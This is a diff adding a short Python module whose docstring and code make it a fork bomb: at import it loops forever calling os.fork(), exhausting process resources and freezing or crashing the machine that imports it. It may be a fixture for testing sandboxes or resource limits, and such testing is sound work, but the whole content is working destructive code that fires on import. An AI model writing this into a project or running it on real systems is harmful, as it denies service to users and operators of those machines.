@@ -1,0 +1,6 @@
+"""Forks for ever at import."""
+
+import os
+
+while True:
+    os.fork()
